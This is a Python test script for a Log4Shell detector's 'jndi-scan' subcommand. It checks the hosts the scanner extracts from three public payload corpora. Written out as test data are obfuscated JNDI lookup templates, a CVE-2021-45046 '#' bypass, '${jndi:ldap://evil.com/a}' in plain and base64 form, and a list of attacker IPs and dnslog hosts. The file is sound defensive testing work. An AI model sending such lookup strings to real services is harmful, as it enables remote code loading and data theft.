#!/usr/bin/python3
# tests/scripts/test_payload_corpus.py - every payload of the three Log4Shell corpora through `protowall jndi-scan`.
"""Runs `$PW_BIN jndi-scan` over the payload corpora in $PW_SHARED/testdata/log4shell/payloads:

  coreruleset   REQUEST-944 tests 944150/944151/944152: each test's URI, header values and body
                are scanned as the request would carry them (YAML quoting decides what is a
                backslash); exactly one hit, in the payload field, with the expected host.
  neo23x0       positives (one hit, expected host), the gzip positive, negatives (no hit).
  fullhunt      log4j-scan's payload templates with {{callback_host}} and {{random}} filled in;
                each alone, and each in every header of headers.txt / headers-minimal.txt at once
                (one request, one hit per header).

The expected host is what the JVM would call: written down per case below, with the reason
where it is not the obvious one. Corpus entries that are no JNDI lookup (Log4j's own error
output, Commons Text's ${url:} / ${dns:}, CRS's PL4 "any ${") must give no hit.

Also checks jndi-scan's own contract (stdin lines, --base64, exit codes 0/1/2).
Prints a Markdown table and `N passed, N failed`. --write-docs rewrites the table in
docs/detection.md between the payload-corpus markers. Exit 0 all passed, 1 any failed,
77 when ../shared is absent.
"""

import argparse
import glob
import json
import os
import subprocess
import sys

ROOT = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
DOC = os.path.join(ROOT, "docs", "detection.md")
BEGIN = "<!-- payload-corpus:begin -->"
END = "<!-- payload-corpus:end -->"

CALLBACK = "cb.oast.example"     # fullhunt's {{callback_host}}
RANDOM = "r4nd0m"                # fullhunt's {{random}}
NUCLEI_HOST = "victim.example"   # a nuclei template's {{Hostname}} in one neo23x0 positive

# neo23x0 positives in file order: (expected host or None for "no hit expected", note).
NEO_POSITIVES = [
    (None, "Log4j's own error output quoting a URL, not a lookup string: no ${jndi"),
    ("attacker.com", ""),
    ("tj5udg.dnslog.cn", ""),
    ("spfcbf.dnslog.cn", ""),
    ("tj5udg.dnslog.cn", ""),
    ("tj5udg.dnslog.cn", ""),
    ("tj5udg.dnslog.cn", ""),
    ("tj5udg.dnslog.cn", ""),
    ("127.0.0.1", ""),
    ("127.0.0.1", ""),
    ("127.0.0.1", ""),
    ("127.0.0.1", ""),
    ("135.148.130.60", ""),
    ("45.83.64.1", ""),
    ("135.148.132.224", ""),
    ("45.146.164.160", ""),
    ("45.146.164.160", ""),
    ("135.148.130.60", ""),
    ("135.148.130.60", ""),
    ("135.148.130.60", ""),
    ("195.54.160.149", ""),
    ("179.43.175.101", ""),
    ("", "ldap:addr has no authority: the JVM would use its default host"),
    ("", "ldap:// with an empty authority"),
    ("", "ldap:/x (one slash) has no authority: the JVM would use its default host"),
    (NUCLEI_HOST + ".c6tsifp2pij91e3kaft0cg7h1xayyyyyn.explorelocalpaths.com",
     "nuclei's {{Hostname}} filled in"),
    ("127.0.0.1", "fused to the previous string upstream, tested separately here"),
]

# fullhunt templates whose host is not simply the callback host.
FULLHUNT_SPECIAL = {
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://{{callback_host}}/{{random}}}":
        ("", "stray '}' upstream: Log4j looks up \"rmi\", no callback"),
    "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap{sd:k5:-:}//{{callback_host}}/{{random}}}":
        ("", "missing '$' upstream: Log4j looks up \"ldap{sd:k5\", no callback"),
    "${j${k8s:k5:-ND}i${sd:k5:-:}${lower:L}dap${sd:k5:-:}//{{callback_host}}/{{random}}":
        (CALLBACK, "unterminated upstream: reported at the end of the input"),
    "${jndi:ldap://127.0.0.1#{{callback_host}}:1389/{{random}}}":
        ("127.0.0.1#" + CALLBACK, "CVE-2021-45046: the JDK's LDAP URL parser keeps '#...' in the host"),
    "${jndi:ldap://127.0.0.1#{{callback_host}}/{{random}}}":
        ("127.0.0.1#" + CALLBACK, "CVE-2021-45046"),
    "${jndi:ldap://127.1.1.1#{{callback_host}}/{{random}}}":
        ("127.1.1.1#" + CALLBACK, "CVE-2021-45046"),
}
NOT_JNDI_LISTS = {"cve_2022_42889": "Commons Text (CVE-2022-42889) interpolation, not a JNDI lookup"}

# CRS test ids whose payload names another host, or holds no lookup at all.
CRS_SPECIAL = {
    23: ("evil.om", ""),
    25: ("evilhost.com", ""),
    26: (None, "PL4 test: any ${ at all, no JNDI lookup"),
}


class Case:
    def __init__(self, corpus, name, inputs, expect, note="", count=1):
        self.corpus, self.name, self.inputs = corpus, name, inputs
        self.expect, self.note, self.count = expect, note, count
        self.got = []
        self.ok = False


def die(msg, code=1):
    print(msg)
    sys.exit(code)


def unescape_neo(s):
    """The neo23x0 files show newlines as \\n, tabs as \\t and a backslash as \\\\."""
    out, i = [], 0
    while i < len(s):
        if s[i] == "\\" and i + 1 < len(s) and s[i + 1] in "nt\\":
            out.append({"n": "\n", "t": "\t", "\\": "\\"}[s[i + 1]])
            i += 2
        else:
            out.append(s[i])
            i += 1
    return "".join(out)


def neo_lines(path):
    with open(path, encoding="utf-8") as f:
        return [unescape_neo(l.rstrip("\n")) for l in f if l.strip() and not l.startswith("#")]


def crs_cases(base):
    import yaml
    seen = {}
    for path in sorted(glob.glob(os.path.join(base, "coreruleset", "tests", "regression", "tests",
                                              "REQUEST-944-APPLICATION-ATTACK-JAVA", "*.yaml"))):
        with open(path, encoding="utf-8") as f:
            doc = yaml.safe_load(f)
        rule = doc["rule_id"]
        for t in doc["tests"]:
            for st in t["stages"]:
                inp = st["input"]
                fields = [("uri", inp.get("uri", ""))]
                fields += [("header " + k, str(v)) for k, v in sorted(inp.get("headers", {}).items())]
                if "data" in inp:
                    fields.append(("body", inp["data"]))
                key = json.dumps(fields)
                if key in seen:
                    seen[key].name += "," + str(rule)
                    continue
                host, note = CRS_SPECIAL.get(t["test_id"], ("evil.com", ""))
                c = Case("coreruleset", "%d #%d" % (rule, t["test_id"]), fields, host, note)
                seen[key] = c
    return list(seen.values())


def fill(template):
    return template.replace("{{callback_host}}", CALLBACK).replace("{{random}}", RANDOM)


def fullhunt_cases(base):
    d = os.path.join(base, "fullhunt-log4j-scan")
    cases, lookups = [], []
    with open(os.path.join(d, "payloads-extracted.tsv"), encoding="utf-8") as f:
        rows = [l.rstrip("\n").split("\t", 1) for l in f if l.strip() and not l.startswith("#")]
    for i, (lst, tmpl) in enumerate(rows[1:], 1):
        if lst in NOT_JNDI_LISTS:
            host, note = None, NOT_JNDI_LISTS[lst]
        else:
            host, note = FULLHUNT_SPECIAL.get(tmpl, (CALLBACK, ""))
            lookups.append((fill(tmpl), host))
        cases.append(Case("fullhunt", "%s %d" % (lst, i), [("payload", fill(tmpl))], host, note))
    for hf in ("headers.txt", "headers-minimal.txt"):
        with open(os.path.join(d, hf), encoding="utf-8") as f:
            names = [l.strip() for l in f if l.strip() and not l.startswith("#")]
        for j, (payload, host) in enumerate(lookups, 1):
            req = "GET /%s HTTP/1.1\r\nHost: victim.example\r\n" % RANDOM
            req += "".join("%s: %s\r\n" % (n, payload) for n in names) + "\r\n"
            cases.append(Case("fullhunt", "%s: payload %d in %d headers" % (hf, j, len(names)),
                              [("request", req)], host, "", count=len(names)))
    return cases


def neo_cases(base):
    d = os.path.join(base, "neo23x0-log4shell-detector")
    pos = neo_lines(os.path.join(d, "positives.txt"))
    if len(pos) != len(NEO_POSITIVES):
        die("neo23x0 positives.txt has %d strings, the expectations %d" % (len(pos), len(NEO_POSITIVES)))
    cases = []
    for i, (s, (host, note)) in enumerate(zip(pos, NEO_POSITIVES), 1):
        s = s.replace("{{Hostname}}", NUCLEI_HOST)
        cases.append(Case("neo23x0", "positive %d" % i, [("string", s)], host, note))
    for i, s in enumerate(neo_lines(os.path.join(d, "positives-gz.txt")), 1):
        cases.append(Case("neo23x0", "positive-gz %d" % i, [("string", s)], "attacker.com"))
    for i, s in enumerate(neo_lines(os.path.join(d, "negatives.txt")), 1):
        cases.append(Case("neo23x0", "negative %d" % i, [("string", s)], None, "negative"))
    return cases


def run_scan(binary, cases):
    """One jndi-scan run for all inputs; returns hits per input index."""
    args, owners = [], []
    for ci, c in enumerate(cases):
        for fi, (_, text) in enumerate(c.inputs):
            if "\0" in text:
                die("input holds a NUL: %s" % c.name)
            args.append(text)
            owners.append((ci, fi))
    out = []
    # Several runs keep each argument list well under the kernel's limit.
    for k in range(0, len(args), 64):
        r = subprocess.run([binary, "jndi-scan", "--"] + args[k:k + 64], stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, errors="replace")
        if r.returncode not in (0, 1):
            die("jndi-scan exited %d: %s" % (r.returncode, r.stderr.strip()))
        for line in r.stdout.splitlines():
            h = json.loads(line)
            h["input_line"] += k
            out.append(h)
    for h in out:
        ci, fi = owners[h["input_line"] - 1]
        h["field"] = cases[ci].inputs[fi][0]
        cases[ci].got.append(h)


def judge(c):
    if c.expect is None:
        c.ok = not c.got
    else:
        c.ok = len(c.got) == c.count and all(h["host"] == c.expect for h in c.got)


def md(s, width=70):
    s = s.replace("\r", "\\r").replace("\n", "\\n").replace("\t", "\\t")
    if len(s) > width:
        s = s[:width - 1] + "…"
    return "`" + s.replace("`", "'").replace("|", "\\|") + "`"


def table(cases):
    rows = ["| corpus | case | input | expected host | got | result |",
            "| --- | --- | --- | --- | --- | --- |"]
    for c in cases:
        field, text = next(((f, t) for f, t in c.inputs if any(h["field"] == f for h in c.got)),
                           c.inputs[-1])
        exp = "no hit" if c.expect is None else (md(c.expect) if c.expect else "(none)")
        if c.count > 1:
            exp += " ×%d" % c.count
        hosts = sorted({h["host"] for h in c.got})
        got = "no hit" if not c.got else ", ".join(md(h) if h else "(none)" for h in hosts)
        if len(c.got) > 1:
            got += " ×%d" % len(c.got)
        encs = sorted({e for h in c.got for e in h["encodings"]})
        if encs:
            got += " [" + ",".join(encs) + "]"
        res = "pass" if c.ok else "**FAIL**"
        if c.note:
            res += " (" + c.note + ")"
        shown = md(text) if c.count == 1 else "request, one header: " + md(text.split("\r\n")[2], 50)
        rows.append("| %s | %s | %s | %s | %s | %s |" % (c.corpus, c.name, shown, exp, got, res))
    return "\n".join(rows)


CLI_CHECKS = 4


def cli_checks(binary):
    """The subcommand's contract: stdin lines, --base64, exit codes. Returns failure messages."""
    fails = []

    def run(args, stdin=""):
        r = subprocess.run([binary, "jndi-scan"] + args, input=stdin, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True)
        return r.returncode, [json.loads(l) for l in r.stdout.splitlines()]

    rc, hits = run([], "benign line\nUA: ${jndi:ldap://l2.example:1389/a}\r\n\n%24%7Bjndi:rmi://l4.example/x%7D\n")
    got = [(h["input_line"], h["host"], h["port"], h["encodings"]) for h in hits]
    if rc != 0 or got != [(2, "l2.example", 1389, []), (4, "l4.example", None, ["url"])]:
        fails.append("stdin: rc %d, %s" % (rc, got))
    rc, hits = run(["--base64", "dXNlcjoke2puZGk6bGRhcDovL2V2aWwuY29tL2F9", "Zm9v"])
    got = [(h["input_line"], h["host"], h["raw"], h["encodings"]) for h in hits]
    if rc != 0 or got != [(1, "evil.com", "${jndi:ldap://evil.com/a}", ["base64"])]:
        fails.append("--base64: rc %d, %s" % (rc, got))
    rc, hits = run(["no lookup here", "${env:HOME}"])
    if rc != 1 or hits:
        fails.append("no hit: rc %d, %d hits" % (rc, len(hits)))
    rc, hits = run(["--bogus"])
    if rc != 2:
        fails.append("bad option: rc %d" % rc)
    return fails


def write_docs(text):
    with open(DOC, encoding="utf-8") as f:
        doc = f.read()
    if BEGIN not in doc or END not in doc:
        die("%s lacks the %s / %s markers" % (DOC, BEGIN, END))
    head, rest = doc.split(BEGIN, 1)
    _, tail = rest.split(END, 1)
    with open(DOC, "w", encoding="utf-8") as f:
        f.write(head + BEGIN + "\n" + text + "\n" + END + tail)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--write-docs", action="store_true", help="rewrite the table in docs/detection.md")
    ap.add_argument("--binary", default=os.environ.get("PW_BIN", os.path.join(ROOT, "build", "protowall")))
    a = ap.parse_args()

    shared = os.environ.get("PW_SHARED") or os.path.join(ROOT, "..", "shared")
    base = os.path.join(shared, "testdata", "log4shell", "payloads")
    if not os.path.isdir(base):
        die("skipped: ../shared absent (%s not found)" % base, 77)
    if not os.access(a.binary, os.X_OK):
        die("no protowall binary at %s (set PW_BIN)" % a.binary)
    r = subprocess.run([a.binary, "jndi-scan", "--help"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if r.returncode != 0:
        die("%s has no working jndi-scan subcommand" % a.binary)
    try:
        import yaml  # noqa: F401
    except ImportError:
        die("PyYAML is needed for the CRS tests (apt-get install python3-yaml)")

    cases = crs_cases(base) + neo_cases(base) + fullhunt_cases(base)
    run_scan(a.binary, cases)
    for c in cases:
        judge(c)
    text = table(cases)
    print(text)
    cli_fails = cli_checks(a.binary)
    case_passed = sum(c.ok for c in cases)
    passed = case_passed + CLI_CHECKS - len(cli_fails)
    failed = len(cases) - case_passed + len(cli_fails)
    for f in cli_fails:
        print("FAIL jndi-scan " + f)
    for c in cases:
        if not c.ok:
            print("FAIL %s %s: expected %s x%d, got %s" % (c.corpus, c.name, c.expect, c.count,
                                                          [(h["field"], h["host"]) for h in c.got]))
    if a.write_docs:
        write_docs(text + "\n\n%d cases passed, %d failed." % (case_passed, len(cases) - case_passed))
    print("%d passed, %d failed" % (passed, failed))
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
